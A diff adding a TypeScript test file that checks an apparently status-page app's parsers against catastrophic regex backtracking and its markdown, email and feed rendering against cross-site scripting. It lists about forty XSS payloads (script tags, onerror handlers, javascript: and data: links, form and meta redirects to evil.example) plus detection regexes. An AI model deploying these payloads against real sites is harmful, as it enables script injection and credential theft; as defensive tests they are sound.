@@ -1,0 +1,268 @@
+// Hostile text: long strings made to hang a pattern, and markdown made to run something.
+import { describe, expect, test } from 'vitest';
+import { readResendEvent } from '../../src/core/bounce.ts';
+import { redacted } from '../../src/core/inbound/redact.ts';
+import { INBOUND } from '../../src/core/inbound/senders.ts';
+import { snsCertificateUrl } from '../../src/core/inbound/sns.ts';
+import { parseIncident } from '../../src/core/incident-file.ts';
+import { escapeMarkdown, plainText, renderMarkdown } from '../../src/core/markdown.ts';
+import { slug } from '../../src/core/slug.ts';
+import { readAddress } from '../../src/core/subscriber.ts';
+import { parseDuration, parseInstant } from '../../src/core/time.ts';
+import { readToken } from '../../src/core/token.ts';
+import { negotiate } from '../../src/core/words/words.ts';
+import { updateSchema } from '../../src/core/write-body.ts';
+import { makeRender } from '../../src/views.ts';
+import { channelOf } from '../../src/web/entries.ts';
+import { brief } from '../../src/web/log-words.ts';
+import { describe as headOf, Rendered } from '../../src/web/rendered.ts';
+import { makeLetters } from '../../src/work/letters.ts';
+import { incident, NOW, shown, site, snapshot, update } from '../makers.ts';
+
+/** As long as any body or header may be. */
+const LONG = 100_000;
+const fill = (text: string) => text.repeat(Math.ceil(LONG / text.length)).slice(0, LONG);
+const BAITS = [
+  ...[
+    'a',
+    ' ',
+    '\n',
+    '-',
+    '/',
+    '.',
+    '@',
+    '"',
+    '<',
+    '&',
+    ',',
+    ';',
+    '\\',
+    '[',
+    '(',
+    '*',
+    '_',
+    '`',
+    '#',
+    '>',
+    '|',
+  ].map(fill),
+  ...[
+    'a@',
+    'a.',
+    'a-',
+    '<a ',
+    '</p>',
+    '](',
+    '![',
+    '**a',
+    '_a_',
+    '&#',
+    'http://',
+    '"token',
+    'x=1,',
+    '0.',
+    '\r\n',
+    '\n\n',
+    '1h',
+  ].map(fill),
+  ...[
+    '- ',
+    '> ',
+    '  - a\n',
+    '| a | b |\n',
+    '# ',
+    '[a][',
+    '<!--',
+    '\u0000',
+    '\u202e',
+    'ü',
+    '日本',
+    '\ud800',
+  ].map(fill),
+  `${fill('a')}!`,
+  `a@${fill('a-')}`,
+  `${fill('/')}x`,
+  `${fill(' ')}x`,
+  `"${fill('token')}`,
+];
+/** Generous: a pattern that hangs takes minutes at this length. */
+const PATIENCE = 3000;
+
+describe('no pattern hangs on a long text', () => {
+  const doors: [string, (bait: string) => unknown][] = [
+    ['an address to subscribe', readAddress],
+    ['a token', bait => readToken('secret', 'confirm', bait, 0)],
+    ['Accept-Language', bait => negotiate(bait, bait)],
+    ['Accept-Encoding', bait => headOf(new Rendered({ type: 'text/html', body: 'x' }), bait)],
+    ['a path for the log', brief],
+    ['a title made into a name', bait => slug(bait, 60)],
+    ['a time', parseInstant],
+    ['a duration', parseDuration],
+    ['a webhook for its log', bait => redacted({ a: bait, b: [bait], [bait]: bait })],
+    [
+      'a bounce',
+      bait => readResendEvent({ type: 'email.bounced', data: { to: [bait], bounce: { type: bait } } }),
+    ],
+    [
+      'an address of SNS',
+      bait => snsCertificateUrl({ SigningCertURL: `https://sns.a.amazonaws.com/${bait}` }),
+    ],
+    ['an update by API', bait => updateSchema.safeParse({ message: bait, status: bait, at: bait })],
+    ['a monitor’s words', escapeMarkdown],
+    ...Object.entries(INBOUND).map(([name, read]): [string, (bait: string) => unknown] => [
+      `a webhook of ${name}`,
+      bait =>
+        [
+          'monitorFriendlyName',
+          'alertDetails',
+          'monitorURL',
+          'monitor',
+          'message',
+          'url',
+          'status',
+          'title',
+        ].map(field => read({ monitor: 'x', status: 'down', alertType: '1', monitorID: '1', [field]: bait })),
+    ]),
+  ];
+  test.each(doors)('%s', (_name, read) => {
+    for (const bait of BAITS) {
+      const began = performance.now();
+      read(bait);
+      expect([bait.slice(0, 10), performance.now() - began]).toEqual([
+        bait.slice(0, 10),
+        expect.toSatisfy(ms => ms < PATIENCE),
+      ]);
+    }
+  });
+
+  test.each([
+    ['markdown', (bait: string) => renderMarkdown(bait)],
+    ['its plain text', (bait: string) => plainText(bait)],
+    [
+      'an incident file',
+      (bait: string) =>
+        parseIncident(
+          'x.md',
+          'x',
+          `---\ntitle: X\nstatus: investigating\nseverity: minor\nstarted: 2026-03-10T10:00:00Z\n---\n## Update 10:00 UTC\n${bait}`,
+        ),
+    ],
+    [
+      'front matter',
+      (bait: string) => parseIncident('x.md', 'x', `---\ntitle: ${bait}\nstatus: "${bait}\n---\n`),
+    ],
+    ['headings', (bait: string) => parseIncident('x.md', 'x', `---\ntitle: X\n---\n## ${bait} 10:00\n`)],
+  ])('%s, which an operator or the API writes', (_name, read) => {
+    for (const bait of BAITS) {
+      const began = performance.now();
+      // A tenth: markdown's nesting is quadratic, and who writes here has the token or the folder.
+      read(bait.slice(0, LONG / 10));
+      expect([bait.slice(0, 10), performance.now() - began]).toEqual([
+        bait.slice(0, 10),
+        expect.toSatisfy(ms => ms < PATIENCE),
+      ]);
+    }
+  });
+});
+
+/** Each tries to run, load, frame, style or forge something. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A;avascript&colon;alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](vbscript:msgbox(1))',
+  '[x](//evil.example)',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![x](http://tracker.example/pixel.gif)',
+  '![x"onerror="alert(1)](https://ok.example/x.png)',
+  '![x](https://ok.example/x.png"onerror="alert(1))',
+  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
+  '<https://ok.example/"onclick="alert(1)>',
+  '<javascript:alert(1)>',
+  'javascript:alert(1)',
+  '<style>*{display:none}</style>',
+  '<p style="position:fixed">x</p>',
+  '<form action="https://evil.example"><input name=token></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example">',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '`<script>alert(1)</script>`',
+  '    <script>alert(1)</script>',
+  '```html\n</code></pre><script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  ']]><script>alert(1)</script>',
+  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
+  '<h1 id="main">x</h1>',
+  '- [x] <input type=checkbox onfocus=alert(1) autofocus>',
+];
+
+/** Tags and attributes that may be there; what is not among them is an attack that came through. */
+const TAGS = /^(p|br|hr|strong|em|del|code|pre|blockquote|ul|ol|li|a|h[3-6]|table|thead|tbody|tr|th|td|img)$/;
+const ATTRIBUTES = /^(href|title|rel|src|alt|loading|start)$/;
+
+function expectHarmless(html: string): void {
+  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-z][^\s/>]*)((?:"[^"]*"|[^">])*)>/gi)) {
+    expect(name).toMatch(TAGS);
+    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
+      expect(attribute).toMatch(ATTRIBUTES);
+      if (attribute === 'href') expect(value).toMatch(/^(https?:|mailto:|#|\/(?!\/)|[\w&;.]*$)/);
+      if (attribute === 'src') expect(value).toMatch(/^https:/);
+    }
+  }
+  expect(html.replace(/<\/?[a-z][a-z0-9]*(\s[a-z]+="[^"<>]*")*\s*\/?>/gi, '')).not.toContain('<');
+}
+
+test('text nested deeper than the parser follows is shown as written, and keeps nothing else off the page', () => {
+  const html = renderMarkdown(`${'> '.repeat(20_000)}<script>alert(1)</script>`);
+  expect(html).toMatch(/^<pre>&gt; &gt; /);
+  expectHarmless(html);
+});
+
+describe('markdown runs nothing', () => {
+  test.each(ATTACKS)('%s', attack => {
+    const html = renderMarkdown(`Before\n\n${attack}\n\nAfter`);
+    expect(html).toContain('Before');
+    expectHarmless(html);
+    expectHarmless(renderMarkdown(escapeMarkdown(attack)));
+  });
+
+  test('on its way into feeds and letters it stays what it was', () => {
+    const letters = makeLetters(makeRender('views'));
+    const links = {
+      incident: 'https://s.example/i',
+      unsubscribe: 'https://s.example/u',
+      manage: 'https://s.example/m',
+    };
+    for (const attack of ATTACKS) {
+      const news = update(NOW, 'investigating', attack);
+      const told = incident('x', { title: attack.split('\n')[0] as string, started: NOW, updates: [news] });
+      const { html } = letters.update(site(), 'en', told, news, ['API'], links);
+      expect([attack, html]).not.toEqual([
+        attack,
+        expect.stringMatching(
+          /<(script|svg|iframe|img src=x|form|meta http-equiv="refresh"|base|math)[\s>/]|href="(javascript|data|vbscript)|<[a-z][a-z0-9]*(\s[\w-]+="[^"]*")*\s+on\w+=/i,
+        ),
+      ]);
+      for (const entry of channelOf(snapshot([], { incidents: [shown(told)] }), undefined, 'update')
+        .entries) {
+        expect([attack, entry.html]).not.toEqual([
+          attack,
+          expect.stringMatching(/<(script|svg|iframe)|href="(javascript|data|vbscript)/i),
+        ]);
+      }
+    }
+  });
+});
